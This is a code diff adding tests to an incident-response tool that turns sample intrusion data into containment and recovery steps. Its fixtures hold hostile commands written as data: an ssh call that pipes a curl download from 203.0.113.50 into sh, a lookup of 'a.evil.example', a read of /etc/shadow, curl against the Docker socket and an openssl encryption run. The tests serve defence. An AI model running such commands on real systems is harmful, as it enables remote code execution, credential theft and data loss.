@@ -11,6 +11,8 @@ import {
   webShellFacts,
 } from "../../../testing/sample-incident.ts";
 import { type ActionScene, perKindMax } from "./action-scene.ts";
+import { blockActions } from "./block-actions.ts";
+import { closeActions } from "./close-actions.ts";
 import { containActions } from "./contain-actions.ts";
 import { eradicateActions } from "./eradicate-actions.ts";
 import type { Incident } from "./incident.ts";
@@ -95,7 +97,7 @@ test("on a host, whoever started it is to be stopped", () => {
 test("a server that was reached is looked at where a rule speaks of lateral movement", () => {
   const steps = [sampleStep(place, { ...host, subject: "10.0.0.7:6379" })];
   const signals = [sampleSignal(place, { ...host, family: "lateral-movement" })];
-  assert.match(texts(onHost({ signals, steps })), /contain: Look at what “10\.0\.0\.7:6379”/);
+  assert.match(texts(onHost({ signals, steps })), /contain: Look at what was done on 10\.0\.0\.7 /);
   assert.doesNotMatch(texts(onHost({ steps })), /Look at what/);
 });
 
@@ -113,7 +115,7 @@ test("an account that was made is locked, password hashes that were read are cha
   });
   const steps = [sampleStep(place, { ...host, what: "read", subject: "/etc/shadow" })];
   const text = texts(onHost({ processes: [process], steps: [] }));
-  assert.match(text, /eradicate: Lock the account “sysupd”.*\$ usermod -L sysupd/);
+  assert.match(text, /contain: Lock the account “sysupd” \$ usermod -L -e 1 sysupd/);
   const cat = { ...process, binary: "/bin/cat", arguments: "" };
   assert.match(texts(onHost({ processes: [cat], steps })), /Change the passwords of all local/);
   const sudo = { ...process, binary: "/usr/bin/sudo", arguments: "" };
@@ -144,6 +146,63 @@ test("the service's own process is never to be stopped", () => {
   const text = texts(sampleIncident({ signals, processes, steps: [] }));
   assert.doesNotMatch(text, /Freeze|kill/);
   assert.match(text, /recover: Look into “registry\.example\/web:1”/);
+});
+
+test("what was named or looked up is blocked, and the settings that were read are renewed", () => {
+  const of = (name: string, line: string) =>
+    sampleProcess(
+      { process: `${name}-1`, entry: "sh", second: 11 },
+      { ...host, binary: `/bin/${name}`, arguments: line },
+    );
+  const processes = [
+    sampleProcess(place, host),
+    of("ssh", "root@10.0.0.9 'curl http://203.0.113.50/x | sh'"),
+    of("dig", "a.evil.example"),
+    of("cat", "/srv/settings.yaml"),
+  ];
+  const about = (process: string) => sampleSignal({ ...place, process }, host);
+  const signals = [about("sh"), about("ssh-1"), about("dig-1")];
+  const text = texts(onHost({ processes, signals }));
+  assert.match(text, /contain: Block 203\.0\.113\.50 everywhere/);
+  assert.match(text, /contain: Have resolvers refuse “a\.evil\.example”/);
+  assert.match(text, /recover: Renew passwords and keys that stand in “\/srv\/settings\.yaml”/);
+});
+
+test("whoever left a container, or spoke to its runtime, is met on the node", () => {
+  const entered = { entryKind: "operator", host: "" } as const;
+  const process = sampleProcess(place, {
+    binary: "/usr/bin/curl",
+    arguments: "--unix-socket /run/docker.sock http://x/containers/json",
+  });
+  const signals = [sampleSignal(place, { ...entered, family: "escape", level: "high" })];
+  const text = texts(sampleIncident({ signals, processes: [process], steps: [] }));
+  assert.match(text, /contain: Let nothing new start on node “node-1”.*kubectl cordon node-1/);
+  assert.match(text, /preserve: Save the audit log .*AUDIT-LOG \| grep -F '"name":"web-0"' > \./);
+  assert.match(text, /eradicate: Look on “node-1” for containers .*docker ps -a --no-trunc/);
+  assert.match(text, /recover: Let only those enter pods of “shop” who must/);
+});
+
+test("a program that was run and deleted, and a password that a command shows, are told", () => {
+  const steps = (["write", "delete"] as const).map((what, at) =>
+    sampleStep({ ...place, second: 11 + at }, { ...host, what, subject: "/tmp/.x/run" }),
+  );
+  const run = sampleProcess(
+    { process: "run", entry: "sh", second: 12 },
+    { ...host, binary: "/tmp/.x/run", uid: 0, parent: "sh" },
+  );
+  const lock = sampleProcess(
+    { process: "lock", entry: "sh", second: 13 },
+    { ...host, binary: "/usr/bin/openssl", arguments: "enc -pass pass:abc -in a -out b" },
+  );
+  const signals = [
+    sampleSignal({ ...place, process: "run" }, { ...host, family: "fileless", level: "high" }),
+    sampleSignal({ ...place, process: "lock" }, { ...host, family: "impact", level: "high" }),
+  ];
+  const text = texts(onHost({ steps, signals, processes: [run, lock] }));
+  assert.match(text, /preserve: Look in backups .* for a copy of “\/tmp\/\.x\/run”/);
+  assert.match(text, /preserve: Keep the password that the commands show/);
+  assert.match(text, /recover: Set “node-1” up anew/);
+  assert.doesNotMatch(text, /Copy “\/tmp/);
 });
 
 test("no command is made of text that does not look as it is", () => {
@@ -177,5 +236,7 @@ test("the list holds what each phase gives, in that order", () => {
     each.flatMap((list) => list(scene)),
   );
   const quiet = { ...scene, deeds: [], given: { ...given, signals: [], containers: [] } };
-  assert.deepEqual(containActions(quiet), []);
+  for (const list of [containActions, blockActions, closeActions]) {
+    assert.deepEqual(list(quiet), []);
+  }
 });
